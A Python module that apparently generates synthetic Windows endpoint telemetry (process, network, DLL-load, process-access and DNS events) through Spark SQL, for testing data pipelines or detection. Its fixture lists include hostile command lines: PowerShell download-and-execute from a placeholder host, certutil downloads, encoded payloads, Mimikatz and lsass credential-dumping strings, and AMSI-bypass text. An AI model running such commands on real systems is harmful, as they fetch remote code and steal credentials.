"""Endpoint telemetry as a projection of the ``events`` table.

The text is SQL that Spark and other engines read alike: integer arithmetic, string literals
without backslashes (``chr(92)`` stands for one) and list lookups. Every column is a function
of one input row, so it is a narrow scan at any size.
"""

from __future__ import annotations

import base64

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from embertrace.schema import wide_schema


def sql_text(value: str | None) -> str:
    """A SQL literal with no backslash in it."""
    if value is None:
        return "NULL"
    parts = ["'" + p.replace("'", "''") + "'" for p in value.split("\\")]
    return "(" + " || chr(92) || ".join(parts) + ")" if len(parts) > 1 else parts[0]


def pick(values: list, index: str) -> str:
    """The value at ``index`` modulo the length. ``element_at`` and ``array`` stand in for the
    one construct the two engines spell differently; see ``telemetry_sql``."""
    items = ", ".join(str(v) if isinstance(v, int) else sql_text(v) for v in values)
    return f"element_at(array({items}), CAST(({index}) % {len(values)} AS INT) + 1)"


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


SYS = "C:\\Windows\\System32\\"
IMAGES = [
    SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
    SYS + "cmd.exe",
    "C:\\Windows\\SysWOW64\\WScript.exe",
    SYS + "mshta.exe",
    SYS + "rundll32.exe",
    SYS + "REGSVR32.exe",
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    SYS + "svchost.exe",
    "C:\\Users\\ana\\AppData\\Local\\Temp\\certutil.exe",
    SYS + "msiexec.exe",
    "C:\\Windows\\explorer.exe",
    "D:/tools/wmic.exe",
    SYS + "bitsadmin.exe",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
    SYS + "odbcconf.exe",
    SYS + "forfiles.exe",
    "C:\\Windows\\hh.exe",
    SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
    "notepad.exe",
]
PARENTS = [
    "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
    "C:\\Windows\\explorer.exe",
    SYS + "wscript.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    SYS + "svchost.exe",
    SYS + "taskhostw.exe",
    SYS + "regsvr32.exe",
]
PLAIN_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"
DUMP_SCRIPT = "Import-Module amsi.dll; [char]105 -join ''; sekurlsa lsass"
COMMANDS = [
    "powershell.exe -NoProfile -File report.ps1",
    "-EncodedCommand " + encoded(PLAIN_SCRIPT),
    "cmd /c echo 100% done_",
    "-w hidden iex (New-Object Net.WebClient).DownloadString('http://x.test/p')",
    "",
    None,
    "-ExecutionPolicy Bypass -Version 2 [Reflection.Assembly]::Load($b)",
    "/c certutil -urlcache -f http://x.test/a.bin & certutil -decode a b",
    "javascript:alert('x') /i:http scrobj.dll /transfer job http://x.test",
    "C:\\Users\\ana\\AppData\\run.ps1 -enc " + encoded(DUMP_SCRIPT),
    "process call create calc.exe /node:host",
    "invoke-mimikatz; amsiInitFailed; __PSLockdownPolicy; gwmi win32_process",
    "-ec !!!notbase64",
    "/a {REGSVR x.dll} /c powershell mk:@MSITStore:x.chm",
    "-enc QUJD",
    "C:\\Windows\\system32\\tool.exe C:\\ProgramData\\x",
    "naïve – résumé —enc 測試",
]
PARENT_COMMANDS = [
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "explorer", None, "", "winword /n doc",
]
ADDRESSES = [
    "10.1.2.3", "8.8.8.8", "100.64.0.1", "203.0.113.10", "224.0.0.1", "192.168.1.5", "not-an-ip",
    "172.32.0.1", None, "127.0.0.1", "2001:db8::1", "2606:4700::1111", "192.0.0.9",
]
PORTS = [80, 443, 4444, 8080, 8443, 445, 31337]
HOSTS = ["cdn.example.org", None, "update.Microsoft.com", "a.b.nuget.org", "C2.BAD.test"]
LIBRARIES = [
    "C:\\Windows\\System32\\kernel32.dll", "C:\\Users\\ana\\Downloads\\x.dll", "C:\\ProgramData\\Acme\\y.dll",
    "C:\\Users\\ana\\AppData\\Roaming\\z.dll", "D:\\apps\\plain.dll",
]
SOURCES = [
    SYS + "svchost.exe", "C:\\Tools\\procdump.exe", SYS + "lsass.exe", "C:\\Office\\WINWORD.exe",
    "C:\\lab\\python_runtime\\python.exe", SYS + "WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe",
]
TARGETS = [
    SYS + "lsass.exe", "C:\\Windows\\explorer.exe", SYS + "winlogon.exe", "C:\\Defender\\MsMpEng.exe",
    "C:/lab/procdump.exe",
]
MASKS = ["0x1410", "0x40", "0x1FFFFF", "0x1000", "bad", "", None, "0x0028", "0x1f0fff", "32", "0x1440"]
TRACES = [None, "C:\\Windows\\System32\\ntdll.dll+9d1e4", "x|System.Management.Automation.ni.dll+1", ""]
DIGESTS = [
    None,
    "SHA256=61C0810A23580CF492A6BA4F7654566108331E7A4134C968C2D6A05261B2D8A1",
    "MD5=00112233445566778899AABBCCDDEEFF,SHA256=" + "AB" * 32,
    "SHA256=A3B5C7D9E1F3A5B7C9D1E3F5A7B9C1D3E5F7A9B1C3D5E7F9A1B3C5D7E9F1A3B5,IMPHASH=0",
    "",
]


def _query_names(index: str) -> str:
    lengths = [49, 50, 51]
    whens = " ".join(f"WHEN {i} THEN repeat('q', {n - 5}) || '.test'" for i, n in enumerate(lengths))
    return f"(CASE ({index}) % 5 {whens} WHEN 3 THEN 'www.example.org' ELSE '' END)"


# Names for one input row: event id, user, per-type counter, event type, time.
BASE = {
    "e": "event_id",
    "u": "user_id",
    "k": "CAST(floor(event_id / 6) AS BIGINT)",
    "t": "CAST(CASE event_id % 6 WHEN 0 THEN 1 WHEN 1 THEN 3 WHEN 2 THEN 7 WHEN 3 THEN 8 WHEN 4 THEN 10 ELSE 22 END AS BIGINT)",
    "moment": "CAST(ts AS TIMESTAMP)",
    "value": "value",
}


def _only(types: str, expression: str) -> str:
    return f"CASE WHEN t IN ({types}) THEN {expression} END"


def telemetry_fields() -> dict[str, str]:
    """Column name to SQL text over the ``BASE`` names."""
    image = f"CASE WHEN e % 101 = 0 THEN NULL ELSE {pick(IMAGES, 'u')} END"
    pid = "CASE WHEN e % 97 = 0 THEN NULL ELSE 1000 + u END"
    return {
        "id": "e",
        "event_type_id": "t",
        "event_time": "moment",
        "computer": "'host-' || CAST(u % 7 AS VARCHAR(9))",
        "process_guid": _only("1, 3, 7", "'{' || CAST(u AS VARCHAR(20)) || '}'"),
        "process_id": _only("1, 3, 7, 22", pid),
        "image": _only("1, 3, 7, 22", image),
        "command_line": _only("1", pick(COMMANDS, "k")),
        "current_directory": _only("1", "'C:' || chr(92)"),
        "user": _only("1, 3", "'user' || CAST(u % 13 AS VARCHAR(9))"),
        "parent_process_id": _only("1", "CASE WHEN u % 16 = 5 THEN 500 ELSE 1000 + CAST(floor(u / 2) AS BIGINT) END"),
        "parent_image": _only("1", f"CASE WHEN k % 13 = 0 THEN NULL ELSE {pick(PARENTS, 'k')} END"),
        "parent_command_line": _only("1", pick(PARENT_COMMANDS, "k")),
        "integrity_level": _only("1", pick(["Medium", "High", "System"], "k")),
        "hashes": _only("1, 7", pick(DIGESTS, "k")),
        "protocol": _only("3", "'tcp'"),
        "initiated": _only("3", "CASE k % 4 WHEN 0 THEN false WHEN 1 THEN NULL ELSE true END"),
        "source_ip": _only("3", "'10.0.0.' || CAST(u % 250 AS VARCHAR(9))"),
        "source_port": _only("3", "50000 + k % 1000"),
        "destination_ip": _only("3", pick(ADDRESSES, "k")),
        "destination_hostname": _only("3", pick(HOSTS, "k")),
        "destination_port": _only("3", f"CAST(CASE WHEN k % 11 = 0 THEN NULL ELSE {pick(PORTS, 'k')} END AS BIGINT)"),
        "image_loaded": _only("7", pick(LIBRARIES, "k")),
        "signed": _only("7", "CASE k % 3 WHEN 0 THEN true WHEN 1 THEN false END"),
        "signature": _only("7", pick(["Microsoft Windows", None], "k")),
        "signature_status": _only("7", pick(["Valid", "Unavailable"], "k")),
        "source_process_id": _only("8, 10", pid),
        "source_image": _only("8, 10", pick(SOURCES, "k")),
        "target_process_id": _only("8, 10", "2000 + u"),
        "target_image": _only("8, 10", pick(TARGETS, "k")),
        "new_thread_id": _only("8", "k"),
        "start_address": _only("8", "'0x7FF0'"),
        "start_module": _only("8", pick([None, "C:\\Windows\\System32\\ntdll.dll"], "k")),
        "start_function": _only("8", pick(["LoadLibraryW", None, "-"], "k")),
        "granted_access": _only("10", pick(MASKS, "k")),
        "call_trace": _only("10", pick(TRACES, "k")),
        "query_name": _only("22", _query_names("k")),
        "query_status": _only("22", pick(["0", "9003"], "k")),
        "query_results": _only("22", pick([None, "::ffff:1.2.3.4;"], "k")),
        "raw_value": "value",
    }


def telemetry_sql(table: str = "events") -> str:
    """The same projection as one SELECT for other engines."""
    base = ", ".join(f"{text} AS {name}" for name, text in BASE.items())
    fields = {n: t.replace("element_at(array(", "list_extract(list_value(") for n, t in telemetry_fields().items()}
    columns = ",\n  ".join(f'{text} AS "{name}"' for name, text in fields.items())
    return f"SELECT {columns}\nFROM (SELECT {base} FROM {table}) base"


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Wide in-flight records derived from ``events.parquet``."""
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    base = events.select(*[F.expr(text).alias(name) for name, text in BASE.items()])
    kinds = {f.name: f.dataType for f in wide_schema()}
    columns = []
    for name, text in telemetry_fields().items():
        value = F.expr(text)
        columns.append((value.cast(kinds[name]) if name in kinds else value).alias(name))
    return base.select(*columns)
